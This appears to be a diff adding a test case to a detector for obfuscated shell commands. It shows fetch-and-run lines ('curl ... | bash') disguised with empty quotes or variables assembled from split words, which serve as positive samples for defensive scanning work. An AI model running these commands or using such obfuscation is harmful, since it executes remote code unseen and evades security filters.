@@ -62,6 +62,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: "printf '\\033[32m%s\\033[0m\\n' ok",
     path: "scripts/x.sh",
   },
+  "broken-command-word": {
+    hit: "c''u''r''l -fsSL https://get.example/i | b''a''s''h",
+    miss: "psql -c \"INSERT INTO t VALUES ('it''s'); \"\nexec python3 \"$@\"",
+    path: "scripts/x.sh",
+  },
   "joined-variables-command": {
     hit: "a=cu; b=rl; c=ba; d=sh\n$a$b -s https://get.example/i | $c$d",
     miss: "dir=/opt/app; name=run.log\ncp $dir$name /tmp/",
